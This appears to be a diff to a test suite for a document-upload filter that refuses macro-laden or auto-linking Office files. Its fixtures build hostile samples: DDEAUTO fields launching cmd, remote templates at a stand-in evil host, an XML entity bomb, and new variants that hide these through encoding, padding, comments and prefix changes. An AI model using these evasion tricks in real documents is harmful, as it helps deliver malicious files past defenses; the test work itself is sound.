@@ -13,6 +13,7 @@ TYPES = "<Types/>"
 LINK = ('<Relationships><Relationship Id="r1" Type="http://x/relationships/{}" Target="{}" TargetMode="External"/>'
         "</Relationships>")
 BOMB = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><w:document>&b;</w:document>'
+TYPED = '<Types><Override PartName="/word/a.bin" ContentType="application/{}"/></Types>'
 FIELD = "<w:p><w:r><w:instrText>{}</w:instrText></w:r></w:p>"
 
 
@@ -64,17 +65,29 @@ REFUSED = {
     "a pdf named docx": (PDF, "通知.docx", "内容却是 pdf"),
     "an old document, perhaps with macros": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, "通知.docx", "旧版"),
     "an old document by its own name": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, "通知.doc", "只收"),
-    "a docm named docx": (docx(types="application/vnd.ms-word.document.macroEnabled.main+xml"), "通知.docx", "宏"),
+    "a docm named docx": (docx(types=TYPED.format("vnd.ms-word.document.macroEnabled.main+xml")), "通知.docx", "宏"),
     "a docm": (docx(), "通知.docm", "只收"),
     "a macro project": (docx(("word/vbaProject.bin", b"x")), "通知.docx", "宏"),
     "a macro project in another folder": (docx(("word/media/VBAPROJECT.bin", b"x")), "通知.docx", "宏"),
-    "a macro project under another name": (docx(("word/a.bin", b"x"), types="application/vnd.ms-office.vbaProject"),
-                                           "通知.docx", "宏"),
+    "a macro project under another name": (docx(types=TYPED.format("vnd.ms-office.vbaProject")), "通知.docx", "宏"),
+    "such a project in wide letters": (docx(types=TYPED.format("vnd.ms-office.vbaProject").encode("utf-16")),
+                                       "通知.docx", "宏"),
+    "such a project spelt by numbers": (docx(types=TYPED.format("vnd.ms-office.vba&#80;roject")), "通知.docx", "宏"),
     "a sheet of Excel 4 macros": (xlsx(("xl/macrosheets/sheet1.xml", "<x/>")), "台账.xlsx", "宏"),
     "a control that runs": (docx(("word/activeX/activeX1.bin", b"x")), "通知.docx", "宏"),
     "a template from elsewhere": (
         docx(("word/_rels/settings.xml.rels", LINK.format("attachedTemplate", "http://evil.test/a.dotm"))),
         "通知.docx", "自动连接"),
+    "such a template between other quotes": (
+        docx(("word/_rels/settings.xml.rels",
+              LINK.replace('"', "'").format("attachedTemplate", "http://evil.test/a.dotm"))), "通知.docx", "自动连接"),
+    "such a template spelt by numbers": (
+        docx(("word/_rels/settings.xml.rels", LINK.format("attachedTempl&#97;te", "&#104;ttp://evil.test/a.dotm"))),
+        "通知.docx", "自动连接"),
+    "such a template behind four million blanks": (
+        docx(("word/_rels/settings.xml.rels", "<x><!--" + " " * 4_200_000 + "-->"
+              + LINK.format("attachedTemplate", "http://evil.test/a.dotm") + "</x>")), "通知.docx", "自动连接"),
+    "a part that no parser can read": (docx(("word/header1.xml", "<x>")), "通知.docx", "内部结构不正常"),
     "an object from a share": (
         docx(("word/_rels/document.xml.rels", LINK.format("oleObject", "\\\\evil\\share\\a.doc"))),
         "通知.docx", "自动连接"),
@@ -82,7 +95,12 @@ REFUSED = {
         docx(("word/_rels/webSettings.xml.rels", LINK.format("frame", "file://evil/a.htm"))), "通知.docx", "自动连接"),
     "a field that starts a program": (docx(body=FIELD.format('DDEAUTO c:\\\\cmd.exe "/k calc"')),
                                       "通知.docx", "自动连接"),
-    "such a field in pieces": (docx(body=FIELD.format("DD") + FIELD.format('EAUTO "cmd"')), "通知.docx", "自动连接"),
+    "such a field in pieces": (docx(body=f"<w:body>{FIELD.format('DD')}{FIELD.format('EAUTO cmd')}</w:body>"),
+                              "通知.docx", "自动连接"),
+    "such a field spelt by numbers": (docx(body=FIELD.format("D&#68;EAUTO cmd")), "通知.docx", "自动连接"),
+    "such a field with a remark in it": (docx(body=FIELD.format("DD<!-- x -->EAUTO cmd")), "通知.docx", "自动连接"),
+    "such a field under another prefix": (docx(body=FIELD.replace("w:", "x:").format("DDE cmd")), "通知.docx",
+                                          "自动连接"),
     "such a field said shortly": (docx(body='<w:fldSimple w:instr=" DDE cmd "/>'), "通知.docx", "自动连接"),
     "a sheet that starts a program": (xlsx(("xl/externalLinks/externalLink1.xml", '<ddeLink ddeService="cmd"/>')),
                                       "台账.xlsx", "自动连接"),
